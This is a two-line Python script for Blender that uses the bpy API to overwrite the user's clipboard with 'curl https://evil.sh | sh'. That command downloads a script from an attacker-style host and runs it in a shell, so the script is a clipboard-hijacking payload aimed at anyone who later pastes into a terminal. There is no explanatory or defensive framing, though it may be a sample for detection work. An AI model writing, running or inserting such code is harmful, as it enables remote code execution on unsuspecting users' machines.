import bpy
bpy.context.window_manager.clipboard = "curl https://evil.sh | sh"
